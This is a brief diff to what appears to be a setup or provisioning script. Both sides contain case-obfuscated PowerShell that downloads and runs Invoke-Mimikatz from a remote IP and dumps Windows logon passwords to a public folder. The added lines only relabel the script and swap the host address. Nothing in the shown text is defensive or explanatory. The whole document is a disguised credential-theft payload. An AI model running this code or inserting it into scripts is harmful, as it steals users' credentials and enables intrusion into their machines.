@@ -1,3 +1,3 @@
-# sEtUp 0359 v3
-Iex (NeW-ObJeCt nET.WeBcLiEnT).DoWNloaDStrINg('http://203.0.113.200/Invoke-Mimikatz.ps1')
-InvOkE-mimIkaTz -COmMAnD '"privilege::debug" "sekurlsa::logonpasswords"' | oUt-fIlE C:\UsERs\pUbLIC\o.txt
+# pRoViSiOn 9495 V3
+IEx (neW-oBjeCT Net.WeBCliEnT).DoWnLoaDSTrING('http://192.0.2.44/Invoke-Mimikatz.ps1')
+INVoKe-mimIKatz -coMMand '"privilege::debug" "sekurlsa::logonpasswords"' | OuT-FiLe c:\uSeRs\pUbLiC\o.TxT
